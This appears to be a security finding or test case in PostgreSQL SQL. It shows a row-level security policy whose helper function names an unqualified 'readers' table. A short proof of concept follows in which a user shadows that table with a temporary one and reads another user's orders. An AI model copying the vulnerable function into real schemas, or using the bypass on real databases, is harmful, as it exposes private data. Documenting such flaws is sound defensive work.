-- finding: policy-function-search-path function shop.may_read(whose text)
CREATE TABLE shop.readers (reader text, of_whom text);
ALTER TABLE shop.readers ENABLE ROW LEVEL SECURITY;
CREATE POLICY own ON shop.readers FOR SELECT USING (reader = current_user);
GRANT SELECT ON shop.readers TO order_users;
CREATE FUNCTION shop.may_read(whose text) RETURNS boolean STABLE LANGUAGE plpgsql AS $$ BEGIN
  RETURN EXISTS (SELECT FROM pg_catalog.pg_class c, readers r WHERE r.reader = current_user AND r.of_whom = whose); END $$;
CREATE POLICY readers ON shop.orders FOR SELECT USING (shop.may_read(owner));
-- leak as alice@example.com
CREATE TEMPORARY TABLE readers (reader text, of_whom text);
INSERT INTO readers VALUES ('alice@example.com', 'bob@example.com');
SELECT item FROM shop.orders WHERE item = 'secret';
